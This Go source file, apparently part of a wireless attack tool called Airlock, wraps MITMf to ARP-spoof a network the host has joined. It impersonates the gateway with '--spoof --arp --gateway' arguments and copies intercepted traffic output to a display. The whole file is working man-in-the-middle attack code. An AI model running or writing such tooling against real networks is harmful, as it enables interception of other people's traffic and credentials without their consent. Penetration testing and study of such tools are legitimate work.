// Package topology makes this host the gateway of a network it joined, by
// ARP spoofing with MITMf.
package topology

import (
	"fmt"
	"io"
	"net"

	"Airlock/internal/machine"
	"Airlock/internal/procman"
	"Airlock/internal/wireless"
)

type SpoofState int

const (
	SpoofStarted SpoofState = iota
	Spoofing
	SpoofTerminated
)

func (s SpoofState) String() string {
	switch s {
	case SpoofStarted:
		return "STARTED"
	case Spoofing:
		return "SPOOFING"
	case SpoofTerminated:
		return "TERMINATED"
	}
	return "UNKNOWN"
}

// DisplayPrefix starts every MITMf line passed on for display.
const DisplayPrefix = "MITMf 1> "

// Spoofer follows MITMf while it poisons the ARP caches of the network.
// Once spoofing, everything MITMf prints about intercepted traffic is
// copied to the display writer.
type Spoofer struct {
	machine.Base[SpoofState]

	display io.Writer
	shown   int
}

// StartSpoofer runs MITMf on iface, impersonating gateway.
func StartSpoofer(bin string, iface *wireless.Interface, gateway net.IP, display io.Writer, opts procman.Options) (*Spoofer, error) {
	args := []string{"-i", iface.Name, "--spoof", "--arp", "--gateway", gateway.String()}
	if opts.Name == "" {
		opts.Name = "mitmf"
	}
	p, err := procman.Start(bin, args, opts)
	if err != nil {
		return nil, err
	}
	return NewSpoofer(p, display), nil
}

// NewSpoofer wraps a running MITMf. A nil display discards traffic lines.
func NewSpoofer(src machine.Source, display io.Writer) *Spoofer {
	if display == nil {
		display = io.Discard
	}
	s := &Spoofer{
		Base:    machine.NewBase[SpoofState]("mitmf", src, SpoofStarted, SpoofTerminated),
		display: display,
	}
	s.Out = &machine.Table[SpoofState]{
		Rules: []machine.Rule[SpoofState]{
			machine.On("online", machine.Exact("|_ SMB server online"), SpoofStarted).Goto(Spoofing),
			machine.On("traffic", machine.Any(), Spoofing).Then(func(m []string) error {
				s.shown++
				_, err := fmt.Fprintln(s.display, DisplayPrefix+m[0])
				return err
			}),
		},
		// Startup banner and plugin listing.
		Unknown: machine.Ignore,
	}
	s.Err = &machine.Table[SpoofState]{
		Noise:   []machine.Matcher{machine.Exact(" * Running on http://127.0.0.1:9999/ (Press CTRL+C to quit)")},
		Unknown: machine.Warn,
	}
	s.Outcome = machine.Outcome[SpoofState]{SuccessStates: []SpoofState{Spoofing}}
	return s
}

// Shown counts traffic lines passed to the display.
func (s *Spoofer) Shown() int { return s.shown }
